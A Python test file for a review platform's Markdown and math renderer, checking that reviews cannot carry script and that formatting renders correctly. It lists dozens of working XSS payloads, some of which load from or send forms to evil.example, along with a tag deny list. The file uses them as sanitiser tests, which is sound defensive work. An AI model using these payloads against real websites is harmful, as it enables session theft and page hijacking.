"""Markdown + math rendering of reviews: what renders, and what can never get through."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from review.reviews.rendering import (
    ALLOWED_URL_SCHEMES,
    HTML_TAGS,
    LINK_REL,
    MATHML_TAGS,
    render_markdown,
)

DANGEROUS_TAGS = {
    "script", "style", "iframe", "frame", "object", "embed", "form", "input", "button",
    "textarea", "select", "svg", "img", "base", "link", "meta", "mglyph", "malignmark",
    "annotation-xml", "maction", "template", "noscript", "video", "audio", "source",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background"}


class ParsedHtml(HTMLParser):
    """Collects every start tag with its attributes, as a browser's tokenizer would see them."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def dangerous_constructs(markup: str) -> list[str]:
    """Every way ``markup`` could run script or restyle the page; empty when it is safe."""
    found = []
    for tag, attributes in ParsedHtml(markup).elements:
        if tag in DANGEROUS_TAGS or tag not in HTML_TAGS | MATHML_TAGS:
            found.append(f"tag <{tag}>")
        for name, value in attributes.items():
            if name.startswith("on"):
                found.append(f"event handler {name} on <{tag}>")
            if name == "style":
                found.append(f"style attribute on <{tag}>")
            if name in URL_ATTRIBUTES:
                # Browsers ignore control characters and whitespace inside a scheme.
                compact = "".join(ch for ch in value if ch > " ").lower()
                scheme = compact.split(":", 1)[0] if ":" in compact else ""
                if scheme not in ALLOWED_URL_SCHEMES:
                    found.append(f"{name}={value!r} on <{tag}>")
            if "javascript:" in value.lower() or "url(" in value.lower():
                found.append(f"script-bearing value {name}={value!r} on <{tag}>")
    return found


XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x\" onerror=\"alert(1)](https://example.com/a.png)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[x](https://example.com\" onmouseover=\"alert(1))",
    "[x](https://example.com \"t\\\" onclick=\\\"alert(1)\")",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<style>body { display: none }</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<form action=\"https://evil.example\"><input type=submit formaction=javascript:alert(1)></form>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\"><mi>x</mi></math>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "`x` <scr<script>ipt>alert(1)</script>",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\href{data:text/html,<script>alert(1)</script>}{x}$",
    r"$<script>alert(1)</script>$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{</math><script>alert(1)</script>}$",
    r'$\color{"><script>alert(1)</script>}{x}$',
    r"$\color{url(javascript:alert(1))}{x}$",
    r"$\colorbox{url(javascript:alert(1))}{x}$",
    r"$\style{background:url(javascript:alert(1))}{x}$",
    r'$\class{x" onmouseover="alert(1)}{y}$',
    "$$\n\\text{</math><iframe src=javascript:alert(1)>}\n$$",
    r"$$\href{javascript:alert(1)}{\frac{a}{b}}$$ inside a paragraph",
]


def test_safety_oracle_recognises_dangerous_html() -> None:
    # Guards the guard: if the checker below went blind, every XSS test would pass vacuously.
    assert dangerous_constructs('<img src="x" onerror="alert(1)">')
    assert dangerous_constructs('<a href=" java\tscript:alert(1)">x</a>')
    assert dangerous_constructs('<p style="color:red">x</p>')
    assert dangerous_constructs("<script>alert(1)</script>")
    assert dangerous_constructs('<mstyle mathcolor="url(javascript:x)"></mstyle>')
    assert not dangerous_constructs('<p><a href="https://example.com" rel="x">ok</a></p>')


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_dangerous_construct_survives_rendering(payload: str) -> None:
    rendered = render_markdown(payload)
    assert dangerous_constructs(rendered) == []


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_survives_only_as_text_when_embedded_in_a_review(payload: str) -> None:
    rendered = render_markdown(f"My review of the paper.\n\n{payload}\n\n*Thanks*")
    assert dangerous_constructs(rendered) == []
    assert "<em>Thanks</em>" in rendered


def test_raw_html_is_shown_as_text_not_dropped() -> None:
    rendered = render_markdown("I liked <b>this</b> part")
    assert "&lt;b&gt;this&lt;/b&gt;" in rendered
    assert "<b>" not in rendered


def test_math_embedded_href_is_removed_but_its_content_kept() -> None:
    rendered = render_markdown(r"$\href{javascript:alert(1)}{x}$")
    assert "<mi>x</mi>" in rendered
    assert "href" not in rendered.split("<annotation")[0]


def test_text_inside_math_is_escaped_not_parsed() -> None:
    rendered = render_markdown(r"$\text{<b>bold</b>}$")
    assert "<mtext>&lt;b&gt;bold&lt;/b&gt;</mtext>" in rendered


def test_inline_math_renders_to_inline_mathml() -> None:
    rendered = render_markdown("The loss is $x^2$ here.")
    assert '<math display="inline">' in rendered
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in rendered
    assert '<annotation encoding="application/x-tex">x^2</annotation>' in rendered


def test_display_math_block_renders_to_block_mathml() -> None:
    rendered = render_markdown("$$\n\\theta_{t+1} = \\theta_t - \\eta \\nabla L\n$$")
    assert '<div class="math block">' in rendered
    assert '<math display="block">' in rendered
    assert "<msub>" in rendered


def test_display_math_inside_a_paragraph_keeps_the_paragraph_whole() -> None:
    rendered = render_markdown(r"so $$\frac{a}{b}$$ holds")
    assert rendered.count("<p>") == 1
    assert '<math display="block">' in rendered
    assert "<mfrac>" in rendered


def test_math_symbols_come_out_as_characters_not_double_escaped() -> None:
    rendered = render_markdown(r"$\sum_i \lambda_i < 1$")
    assert "∑" in rendered
    assert "λ" in rendered
    assert "<mo>&lt;</mo>" in rendered
    assert "&amp;#x" not in rendered


def test_safe_colour_survives_but_url_colour_is_dropped() -> None:
    rendered = render_markdown(r"$\color{red}{x}$ and $\color{url(javascript:a)}{y}$")
    assert '<mstyle mathcolor="red">' in rendered
    assert "url(" not in rendered.split("<annotation")[0]


@pytest.mark.parametrize(
    "latex",
    [r"\frac{", r"x^", r"x_1_2", r"\left( x", r"\begin{matrix} 1", "{" * 3000 + "x" + "}" * 3000],
)
def test_invalid_latex_is_shown_as_source_code_instead_of_crashing(latex: str) -> None:
    rendered = render_markdown(f"before ${latex}$ after")
    assert '<code class="math-error">' in rendered
    assert "<math" not in rendered
    assert "before" in rendered and "after" in rendered


def test_invalid_latex_source_is_escaped() -> None:
    rendered = render_markdown(r"$<script>^$")
    assert '<code class="math-error">$&lt;script&gt;^$</code>' in rendered


def test_dollar_amounts_stay_text() -> None:
    rendered = render_markdown("Training cost $5 and $10 per run.")
    assert "<math" not in rendered
    assert "$5 and $10" in rendered


def test_markdown_renders_emphasis_lists_and_code() -> None:
    rendered = render_markdown(
        "*weak* and **strong**\n\n- one\n- two\n\n1. first\n\n`inline`\n\n```\nblock()\n```\n"
    )
    assert "<em>weak</em>" in rendered
    assert "<strong>strong</strong>" in rendered
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in rendered
    assert "<ol>\n<li>first</li>\n</ol>" in rendered
    assert "<code>inline</code>" in rendered
    assert "block()" in rendered and "<pre>" in rendered


def test_markdown_renders_tables_and_strikethrough() -> None:
    rendered = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n~~gone~~")
    assert "<table>" in rendered and "<td>1</td>" in rendered
    assert "<s>gone</s>" in rendered


def test_links_are_kept_with_forced_rel() -> None:
    rendered = render_markdown("[paper](https://arxiv.org/abs/1711.05101) <mailto:ta@ku.edu.tr>")
    assert f'<a href="https://arxiv.org/abs/1711.05101" rel="{LINK_REL}">paper</a>' in rendered
    assert 'href="mailto:ta@ku.edu.tr"' in rendered


def test_relative_links_lose_their_target() -> None:
    rendered = render_markdown("[log out](/logout)")
    assert "href" not in rendered
    assert "log out" in rendered


def test_images_become_links_so_readers_are_not_tracked() -> None:
    rendered = render_markdown("![figure 2](https://example.com/fig2.png)")
    assert "<img" not in rendered
    assert f'<a href="https://example.com/fig2.png" rel="{LINK_REL}">figure 2</a>' in rendered


def test_result_is_markup_so_templates_do_not_escape_it_again() -> None:
    assert isinstance(render_markdown("*x*"), Markup)


# --- one cleaner built once, and HTML stored at submit ------------------------------------------

RAW_HTML_SNIPPETS = [
    *XSS_PAYLOADS,
    '<a href="https://example.com" onclick="x()">ok</a><a href="/relative">rel</a>',
    '<math display="block"><mstyle mathcolor="url(javascript:x)"><mi>x</mi></mstyle></math>',
    '<span class="math inline evil">x</span><code class="math-error other">y</code>',
    '<annotation encoding="text/html"><b>x</b></annotation><ol start="3" type="a"><li>x</li></ol>',
]


@pytest.mark.parametrize("snippet", RAW_HTML_SNIPPETS)
def test_cleaner_built_once_cleans_exactly_like_a_fresh_clean_call(snippet: str) -> None:
    # The snippets go to the sanitiser raw (not through Markdown, which would escape them), so
    # every allow-list rule is exercised against the per-call nh3.clean of before.
    import nh3

    from review.reviews.rendering import _renderer, sanitizer_settings

    _, cleaner = _renderer()
    assert cleaner.clean(snippet) == nh3.clean(snippet, **sanitizer_settings())


def test_stored_rendering_is_used_only_for_the_content_it_was_made_from(monkeypatch) -> None:
    from review.reviews import rendering

    content = {"summary": "**bold** $x^2$", "questions": ["Why *this*?"]}
    stored = rendering.stored_rendering(content, "hash-1")
    shown = rendering.usable_rendering(stored, "hash-1")
    assert shown == {"summary": render_markdown(content["summary"]),
                     "questions": [render_markdown("Why *this*?")]}
    assert isinstance(shown["summary"], Markup)
    assert rendering.usable_rendering(stored, "hash-2") is None  # content changed since
    assert rendering.usable_rendering(None, "hash-1") is None
    monkeypatch.setattr(rendering, "RENDERER_VERSION", rendering.RENDERER_VERSION + 1)
    assert rendering.usable_rendering(stored, "hash-1") is None  # renderer changed since


# Pieces that make up prose and every kind of Markdown a plain-looking text could hide:
# line-start markers, hard breaks, entities, math, Unicode whitespace and line separators.
_PIECES = ["word", "Ünïcödé", "ş", "Z", "1", "42", "2023.", "1)", " ", "  ", "    ", "\n", "\n\n",
           "\n\n\n", "\n \n", '"', "'", "-", "--", "---", "(", ")", "!", "?", ".", ",", ":", ";",
           "%", "@", "/", "{", "}", "^", "*", "_", "#", "$", "$x$", "&", "&amp;", "<", ">", "[",
           "]", "`", "~", "|", "=", "+", "\\", "\t", "\xa0", "\r", "\r\n", "\u2028", "\x85",
           "\x00", "\x0c", "—", "“", "”", "…", "http://example.org", "www.example.org", "(c)"]


def _full_render(text: str) -> str:
    from review.reviews.rendering import _renderer

    markdown, cleaner = _renderer()
    return cleaner.clean(markdown.render(text))


def test_plain_prose_renders_exactly_as_markdown_it_would() -> None:
    import random

    from review.reviews.rendering import _plain_prose_html

    rng = random.Random(14)
    taken = 0
    for _ in range(30_000):
        text = "".join(rng.choice(_PIECES) for _ in range(rng.randint(0, 14)))
        if _plain_prose_html(text) is not None:
            taken += 1
        assert str(render_markdown(text)) == _full_render(text), repr(text)
    # The short cut is exercised, not just the full render compared with itself.
    assert taken > 2_000


@pytest.mark.parametrize("text", [
    "The paper proposes sparse attention, and shows it on standard benchmarks.",
    'Would the method still help with a "much" larger dataset? It\'s unclear (to me).',
    "First paragraph,\nwrapped once.\n\n\nSecond paragraph — with Ünïcödé…\n",
    "Question 3 of 17?",
])
def test_plain_prose_takes_the_short_cut(text: str) -> None:
    from review.reviews.rendering import _plain_prose_html

    assert _plain_prose_html(text) is not None
    assert str(render_markdown(text)) == _full_render(text)


@pytest.mark.parametrize("text", [
    "1. a list", "- a bullet", "a line\n---", "a hard break  \nthen more", "    code",
    "**bold**", "an &amp; entity", "math $x$", "a\ttab", "a\xa0space", "a\r\nb", "tab | le",
])
def test_anything_that_could_be_markdown_goes_to_markdown_it(text: str) -> None:
    from review.reviews.rendering import _plain_prose_html

    assert _plain_prose_html(text) is None
